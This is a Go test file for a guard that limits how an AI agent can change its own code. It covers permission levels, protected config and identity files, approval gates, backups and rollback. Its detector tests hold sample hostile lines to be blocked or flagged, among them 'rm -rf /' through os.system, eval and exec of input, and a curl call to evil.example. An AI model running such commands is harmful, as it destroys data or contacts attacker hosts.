package guard

import (
	"errors"
	"os"
	"path/filepath"
	"testing"
)

func newTestCodeGuard(t *testing.T, level ModificationLevel) (*CodeGuard, string) {
	t.Helper()
	dir := t.TempDir()
	g, err := NewCodeGuard(dir, level)
	if err != nil {
		t.Fatalf("NewCodeGuard: %v", err)
	}
	return g, dir
}

func TestParseModificationLevel(t *testing.T) {
	cases := []struct {
		in      string
		want    ModificationLevel
		wantErr bool
	}{
		{"none", ModNone, false},
		{"skills_only", ModSkillsOnly, false},
		{"extensions", ModExtensions, false},
		{"full_with_approval", ModFullWithApproval, false},
		{" Skills_Only ", ModSkillsOnly, false},
		{"everything", "", true},
		{"", "", true},
	}

	for _, tc := range cases {
		got, err := ParseModificationLevel(tc.in)
		if tc.wantErr {
			if err == nil {
				t.Errorf("ParseModificationLevel(%q) = %q, want error", tc.in, got)
			}
			continue
		}
		if err != nil {
			t.Errorf("ParseModificationLevel(%q): %v", tc.in, err)
			continue
		}
		if got != tc.want {
			t.Errorf("ParseModificationLevel(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCheckCode_DangerousPatterns(t *testing.T) {
	g, _ := newTestCodeGuard(t, ModSkillsOnly)

	dangerous := []string{
		`import os\nos.system("rm -rf /")`,
		`subprocess.run(cmd, shell=True)`,
		`result = eval(user_input)`,
		`exec(payload)`,
		`mod = __import__("os")`,
		`code = compile(src, "<s>", "exec")`,
	}

	for _, src := range dangerous {
		check := g.CheckCode(src)
		if !check.Blocked() {
			t.Errorf("expected dangerous code to be blocked: %s", src)
		}
	}
}

func TestCheckCode_SuspiciousPatterns(t *testing.T) {
	g, _ := newTestCodeGuard(t, ModSkillsOnly)

	suspicious := []string{
		`os.popen("curl http://evil.example")`,
		`data = base64.b64decode(blob)`,
		`obj = pickle.loads(raw)`,
		`s = socket.socket()`,
	}

	for _, src := range suspicious {
		check := g.CheckCode(src)
		if check.Blocked() {
			t.Errorf("suspicious code should warn, not block: %s", src)
		}
		if len(check.Suspicious) == 0 {
			t.Errorf("expected a warning for: %s", src)
		}
	}
}

func TestCheckCode_CleanSkill(t *testing.T) {
	g, _ := newTestCodeGuard(t, ModSkillsOnly)

	src := `import json

def run(arguments):
    city = arguments.get("city", "Beijing")
    return {"status": "ok", "city": city}

def get_tool_definition():
    return {"type": "function", "function": {"name": "city_info", "parameters": {}}}
`
	check := g.CheckCode(src)
	if check.Blocked() {
		t.Fatalf("clean skill blocked: %v", check.Dangerous)
	}
	if len(check.Suspicious) != 0 {
		t.Errorf("clean skill flagged suspicious: %v", check.Suspicious)
	}
}

func TestCanModify_LevelNone(t *testing.T) {
	g, dir := newTestCodeGuard(t, ModNone)

	d := g.CanModify(filepath.Join(dir, "skills", "dynamic", "x.py"))
	if d.Allowed {
		t.Error("level none should deny sandbox writes")
	}
}

func TestCanModify_SkillsOnly(t *testing.T) {
	g, dir := newTestCodeGuard(t, ModSkillsOnly)

	if d := g.CanModify(filepath.Join(dir, "skills", "dynamic", "x.py")); !d.Allowed {
		t.Errorf("skills/dynamic should be writable at skills_only: %s", d.Reason)
	}
	if d := g.CanModify(filepath.Join(dir, "extensions", "x.py")); d.Allowed {
		t.Error("extensions should need a higher level than skills_only")
	}
	if d := g.CanModify(filepath.Join(dir, "random", "x.py")); d.Allowed {
		t.Error("non-sandbox paths should be denied at skills_only")
	}
}

func TestCanModify_Extensions(t *testing.T) {
	g, dir := newTestCodeGuard(t, ModExtensions)

	if d := g.CanModify(filepath.Join(dir, "skills", "dynamic", "x.py")); !d.Allowed {
		t.Errorf("skills/dynamic should be writable at extensions: %s", d.Reason)
	}
	if d := g.CanModify(filepath.Join(dir, "extensions", "x.py")); !d.Allowed {
		t.Errorf("extensions should be writable at extensions: %s", d.Reason)
	}
	if d := g.CanModify(filepath.Join(dir, "random", "x.py")); d.Allowed {
		t.Error("non-sandbox paths should be denied at extensions")
	}
}

func TestCanModify_Protected(t *testing.T) {
	g, dir := newTestCodeGuard(t, ModSkillsOnly)

	cases := []string{
		filepath.Join(dir, "config.json"),
		filepath.Join(dir, "neo.db"),
		filepath.Join(dir, "internal", "agent", "runner", "runner.go"),
		filepath.Join(dir, "soul", "identity.md"),
	}
	for _, path := range cases {
		if d := g.CanModify(path); d.Allowed {
			t.Errorf("protected path should be denied below full_with_approval: %s", path)
		}
	}

	// At full_with_approval protected paths are allowed but gated on approval.
	if err := g.SetLevel(ModFullWithApproval); err != nil {
		t.Fatal(err)
	}
	d := g.CanModify(filepath.Join(dir, "config.json"))
	if !d.Allowed || !d.RequiresApproval {
		t.Errorf("protected at full_with_approval: allowed=%v requiresApproval=%v, want true true", d.Allowed, d.RequiresApproval)
	}
}

func TestApply_WritesAndBacksUp(t *testing.T) {
	g, dir := newTestCodeGuard(t, ModSkillsOnly)
	path := filepath.Join(dir, "skills", "dynamic", "greet.py")

	mod1, err := g.Apply(path, "def run(arguments):\n    return {\"status\": \"ok\"}\n", "initial", false)
	if err != nil {
		t.Fatalf("first Apply: %v", err)
	}
	if mod1.BackupPath != "" {
		t.Errorf("new file should have no backup, got %s", mod1.BackupPath)
	}
	if mod1.ChecksumAfter == "" {
		t.Error("expected a checksum after write")
	}

	mod2, err := g.Apply(path, "def run(arguments):\n    return {\"status\": \"v2\"}\n", "update", false)
	if err != nil {
		t.Fatalf("second Apply: %v", err)
	}
	if mod2.BackupPath == "" {
		t.Fatal("overwrite should create a backup")
	}
	if _, err := os.Stat(mod2.BackupPath); err != nil {
		t.Errorf("backup file missing: %v", err)
	}
	if mod2.ChecksumBefore != mod1.ChecksumAfter {
		t.Error("checksum chain broken between writes")
	}

	if got := len(g.History(0)); got != 2 {
		t.Errorf("history length = %d, want 2", got)
	}
}

func TestApply_RejectsDangerousCode(t *testing.T) {
	g, dir := newTestCodeGuard(t, ModSkillsOnly)
	path := filepath.Join(dir, "skills", "dynamic", "evil.py")

	_, err := g.Apply(path, `import os`+"\n"+`os.system("rm -rf /")`, "test", false)
	if err == nil {
		t.Fatal("expected dangerous code to be rejected")
	}
	if _, statErr := os.Stat(path); statErr == nil {
		t.Error("rejected write should not create the file")
	}
}

func TestApply_RequiresApproval(t *testing.T) {
	g, dir := newTestCodeGuard(t, ModFullWithApproval)
	path := filepath.Join(dir, "notes.txt")

	_, err := g.Apply(path, "hello", "test", false)
	if !errors.Is(err, ErrApprovalRequired) {
		t.Fatalf("err = %v, want ErrApprovalRequired", err)
	}

	if _, err := g.Apply(path, "hello", "test", true); err != nil {
		t.Fatalf("approved Apply: %v", err)
	}
}

func TestRollback(t *testing.T) {
	g, dir := newTestCodeGuard(t, ModSkillsOnly)
	path := filepath.Join(dir, "skills", "dynamic", "calc.py")

	v1 := "def run(arguments):\n    return {\"v\": 1}\n"
	v2 := "def run(arguments):\n    return {\"v\": 2}\n"

	if _, err := g.Apply(path, v1, "v1", false); err != nil {
		t.Fatal(err)
	}
	if _, err := g.Apply(path, v2, "v2", false); err != nil {
		t.Fatal(err)
	}

	restored, err := g.Rollback(1)
	if err != nil {
		t.Fatalf("Rollback: %v", err)
	}
	if len(restored) != 1 || restored[0] != path {
		t.Fatalf("restored = %v, want [%s]", restored, path)
	}

	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(data) != v1 {
		t.Errorf("content after rollback = %q, want %q", data, v1)
	}
	if got := len(g.History(0)); got != 1 {
		t.Errorf("history length after rollback = %d, want 1", got)
	}
}

func TestRollback_Empty(t *testing.T) {
	g, _ := newTestCodeGuard(t, ModSkillsOnly)
	if _, err := g.Rollback(1); err == nil {
		t.Error("expected error rolling back with no history")
	}
}

func TestHistory_Limit(t *testing.T) {
	g, dir := newTestCodeGuard(t, ModSkillsOnly)
	path := filepath.Join(dir, "skills", "dynamic", "h.py")

	for i := 0; i < 5; i++ {
		if _, err := g.Apply(path, "def run(arguments):\n    return {}\n", "write", false); err != nil {
			t.Fatal(err)
		}
	}

	if got := len(g.History(3)); got != 3 {
		t.Errorf("History(3) length = %d, want 3", got)
	}
	if got := len(g.History(0)); got != 5 {
		t.Errorf("History(0) length = %d, want 5", got)
	}
}

func TestModificationLogPersists(t *testing.T) {
	dir := t.TempDir()

	g1, err := NewCodeGuard(dir, ModSkillsOnly)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "skills", "dynamic", "p.py")
	if _, err := g1.Apply(path, "def run(arguments):\n    return {}\n", "write", false); err != nil {
		t.Fatal(err)
	}

	g2, err := NewCodeGuard(dir, ModSkillsOnly)
	if err != nil {
		t.Fatal(err)
	}
	if got := len(g2.History(0)); got != 1 {
		t.Errorf("history after reload = %d, want 1", got)
	}
}

func TestStatus(t *testing.T) {
	g, _ := newTestCodeGuard(t, ModExtensions)

	st := g.Status()
	if st.Level != ModExtensions {
		t.Errorf("status level = %q, want %q", st.Level, ModExtensions)
	}
	if st.ProtectedFilesCount == 0 || st.ProtectedDirsCount == 0 {
		t.Error("expected protected files and dirs to be counted")
	}
	if len(st.SandboxDirs) != 2 {
		t.Errorf("sandbox dirs = %v, want 2 entries", st.SandboxDirs)
	}
}
